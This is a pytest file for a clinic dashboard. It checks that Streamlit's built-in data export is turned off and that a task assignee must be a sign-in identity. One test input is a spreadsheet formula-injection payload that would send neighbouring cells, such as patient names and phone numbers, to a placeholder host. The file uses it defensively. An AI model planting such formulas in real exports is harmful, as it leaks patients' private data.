"""Streamlit's own "Download as CSV" (and copy) on st.dataframe bypassed our downloads (review of the clinic scope,
defect 2): that export is made in the browser, so ui.download's audit of identified exports and its neutralisation
of spreadsheet formulas never saw it (the Work queue's patient names and phones, an assignee stored as
'=HYPERLINK(...)'). client.disableDataExport is now on wherever the app starts: on the command line
`ptpulse app` / `ptpulse serve` / `make demo` run (ptpulse/serve.py app_command), and in app/.streamlit/config.toml,
which Streamlit reads for its main script whatever the working directory (a plain `streamlit run
app/streamlit_app.py`). The assignee itself must now be a sign-in identity (app/lib/actions.py validate)."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from app.lib import actions
from ptpulse.core.config import APP_DIR
from ptpulse.serve import app_command


def _flag(cmd: list[str], name: str) -> str | None:
    return cmd[cmd.index(name) + 1] if name in cmd else None


def test_the_app_command_turns_data_export_off():
    cmd = app_command(8501, "127.0.0.1")
    assert _flag(cmd, "--client.disableDataExport") == "true"


def test_a_plain_streamlit_run_of_the_app_reads_the_shipped_config(tmp_path):
    """What `streamlit run <repo>/app/streamlit_app.py` resolves, run from an unrelated folder (so neither a
    ~/.streamlit nor a project .streamlit of the caller's decides): the option is on, from the app's config."""
    probe = (
        "import json, sys, streamlit.config as c\n"
        "c._main_script_path = sys.argv[1]\n"  # what `streamlit run` sets before it reads the config files
        "c.get_config_options(force_reparse=True)\n"
        "print(json.dumps([c.get_option('client.disableDataExport'), c.get_where_defined('client.disableDataExport')]))"
    )
    out = subprocess.run(
        [sys.executable, "-c", probe, str(APP_DIR / "streamlit_app.py")],
        cwd=tmp_path,
        env={"HOME": str(tmp_path), "PATH": ""},
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    value, where = json.loads(out.stdout.strip().splitlines()[-1])
    assert value is True
    assert where == str(APP_DIR / ".streamlit" / "config.toml")


@pytest.mark.parametrize(
    "assignee",
    [
        '=HYPERLINK("http://x.example/?"&E2&F2,"open")',
        "=hyperlink(a1)",
        "+1 555 0101",
        "@sum(1+1)",
        "-2+3",
        "Mrs Haynes, 555-0140",
        "ann lee@clinic.com",
    ],
)
def test_an_assignee_must_be_a_sign_in_identity(tmp_path, assignee):
    db = tmp_path / "app.sqlite"
    with pytest.raises(actions.ActionError, match="sign-in email"):
        actions.record(db, "uncontacted_referral:R1", "assign", "boss@clinic.com", {"assignee": assignee})
    assert actions.history(db, "uncontacted_referral:R1") == []  # nothing recorded


@pytest.mark.parametrize("assignee", ["ann.lee@clinic.com", " Ann.Lee@Clinic.COM ", "o'brien@clinic.com", "bob"])
def test_staff_identities_are_accepted(tmp_path, assignee):
    db = tmp_path / "app.sqlite"
    actions.record(db, "uncontacted_referral:R1", "assign", "boss@clinic.com", {"assignee": assignee})
    assert actions.history(db, "uncontacted_referral:R1")[0]["assignee"] == actions.person(assignee)
